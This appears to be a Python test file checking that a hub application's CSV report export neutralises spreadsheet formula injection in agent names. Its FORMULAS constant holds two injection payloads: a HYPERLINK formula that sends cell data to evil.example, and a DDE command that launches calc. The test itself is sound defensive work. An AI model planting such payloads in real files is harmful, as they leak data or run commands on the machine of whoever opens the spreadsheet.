"""CSV exports never hand a spreadsheet a formula: an agent named ``=HYPERLINK(...)``
(names are free text an admin types, or pastes) shows up in the reports export as text."""

from __future__ import annotations

import csv
import io

from sqlalchemy import update

from hub.core import Hub
from hub.models import Agent
from tests.hub.reports.test_reports import load_fixture
from tests.hub.web.console.conftest import SignedIn

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0"]


async def test_report_export_neutralises_formula_cells(admin: SignedIn, core: Hub) -> None:
    await load_fixture(core)
    async with core.uow() as uow:
        await uow.session.execute(update(Agent).where(Agent.name == "Ann").values(name=FORMULAS[0]))
        await uow.session.execute(update(Agent).where(Agent.name == "Bob").values(name=FORMULAS[1]))
    response = await admin.client.get("/reports.csv?since=2026-11-01&until=2026-11-04")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
